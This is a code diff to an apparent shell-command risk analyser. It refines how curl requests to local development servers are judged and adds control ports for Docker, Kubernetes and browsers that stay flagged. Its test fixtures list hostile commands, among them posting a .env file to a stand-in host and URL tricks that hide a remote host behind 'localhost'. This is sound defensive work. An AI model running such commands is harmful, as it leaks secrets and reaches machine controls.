@@ -1,3 +1,4 @@
+import { CHANGES_SERVICE } from '../reason-codes.ts';
 import { networkOf } from '../host-of.ts';
 import { hasOption, type Options, valueOf } from '../options.ts';
 import { absolutePath } from '../paths.ts';
@@ -22,8 +23,18 @@ export const downloads = definePrograms(
         'curl -o d.json https://example.org/d.json',
         'curl -sSfL https://example.org -O',
         'curl -H "Accept: x" https://x.example',
+        "curl -X POST http://localhost:3000/api -d '{}'",
+        'curl -X PUT 127.0.0.1:8080/a http://[::1]:8080/b',
       ],
       dangerous: [
+        'curl -X DELETE http://localhost:9200/index',
+        'curl -X POST http://localhost:2375/containers/create',
+        'curl -X POST http://localhost:3000 https://x.example',
+        'curl -X POST http://localhost:3000 -x proxy.example',
+        'curl -X POST http://localhost:3000 --connect-to ::x.example:80',
+        'curl -X POST http://localhost:3000@x.example/',
+        'curl -X POST http://localhost.x.example/',
+        'curl -d @.env http://localhost:3000',
         'curl -d @a.txt https://x.example',
         'curl -X POST https://x.example',
         "curl -F 'f=@.env' https://x.example",
@@ -103,7 +114,13 @@ function judgeCurl({ options, scene, span }: Invocation): void {
   // What else it may connect to is not told by its URLs.
   const elsewhere = hasOption(options, '-x', '--proxy', '--resolve', '-K', '--config', '--next');
   if (urls.length === 0 || elsewhere || options.unknown.length > 0) scene.report.effect(NETWORK);
-  judgeSending(options, urls, scene, span);
+  const isPlain = urls.length > 0 && !elsewhere && options.unknown.length === 0;
+  judgeSending(options, {
+    urls,
+    isLocal: isPlain && urls.every((word) => isLocalServer(word, scene)),
+    scene,
+    span,
+  });
   const folder = valueOf(options, '--output-dir');
   if (hasOption(options, '-O', '--remote-name', '--remote-name-all', '-J', '--remote-header-name')) {
     for (const word of urls) writeDownload(word, folder, scene);
@@ -117,13 +134,14 @@ function judgeCurl({ options, scene, span }: Invocation): void {
     scene.report.raise('dangerous', 'unknown-script', 'takes its options from a file', span);
 }
 
-function judgeSending(options: Options, urls: readonly Word[], scene: Scene, span: Word['span']): void {
+type Sending = Readonly<{ urls: readonly Word[]; isLocal: boolean; scene: Scene; span: Word['span'] }>;
+
+function judgeSending(options: Options, { urls, isLocal, scene, span }: Sending): void {
   const bodies = options.given.filter(({ name }) => CURL_BODIES.has(name));
   const method = textOf(valueOf(options, '-X', '--request'))?.toUpperCase();
   const changes =
     valueOf(options, '-X', '--request') !== undefined && !/^(?:GET|HEAD|OPTIONS)$/.test(method ?? '');
-  if (bodies.length > 0 || changes)
-    scene.report.raise('dangerous', 'network-sends', 'sends data to another machine', span);
+  if (bodies.length > 0 || changes) raiseSending(isLocal && method !== 'DELETE', scene, span);
   for (const { value, name } of bodies) {
     const file = /[@<]([^;,]+)/.exec(value === undefined ? '' : beginningOf(value))?.[1];
     if (file !== undefined && name !== '--form-string' && name !== '--data-raw' && value !== undefined)
@@ -135,6 +153,22 @@ function judgeSending(options: Options, urls: readonly Word[], scene: Scene, spa
     if (isUrl)
       scene.report.raise('warning', 'network-sends', `sends what can't be known: ${show(word)}`, word.span);
   }
+}
+
+function raiseSending(isLocal: boolean, { report }: Scene, span: Word['span']): void {
+  if (isLocal) report.raise('warning', CHANGES_SERVICE, 'sends data to a server of this machine', span);
+  else report.raise('dangerous', 'network-sends', 'sends data to another machine', span);
+}
+
+/** Ports behind which containers, clusters and browsers of this machine are controlled. */
+const CONTROLS = /:(?:2375|2376|2377|2379|2380|4243|6443|8001|9222|10250|10255)$/;
+
+/** A server that is developed here: its address stands on the line, and no variable leads elsewhere. */
+function isLocalServer(word: Word, { report }: Scene): boolean {
+  const effect = networkOf(word);
+  const host = effect.kind === 'network' ? (effect.host ?? '') : '';
+  const isLoopback = /^(?:localhost|127(?:\.\d{1,3}){3}|\[::1\]):\d+$/.test(host);
+  return isLoopback && !CONTROLS.test(host) && report.sources.variables === 0;
 }
 
 function writeDownload(url: Word, folder: Word | undefined, scene: Scene): void {
@@ -159,9 +193,8 @@ function markDownloaded(word: Word | undefined, scene: Scene): void {
 function judgeWget({ options, scene, span }: Invocation): void {
   for (const word of options.operands) noteHost(word, scene);
   if (options.operands.length === 0) scene.report.effect(NETWORK);
-  if (hasOption(options, '--post-data', '--post-file', '--body-data', '--body-file', '--method')) {
-    scene.report.raise('dangerous', 'network-sends', 'sends data to another machine', span);
-  }
+  if (hasOption(options, '--post-data', '--post-file', '--body-data', '--body-file', '--method'))
+    raiseSending(false, scene, span);
   if (hasOption(options, '-e', '--execute', '--use-askpass', '--config')) {
     scene.report.raise('dangerous', 'starts-program', 'changes the settings of wget', span);
   }
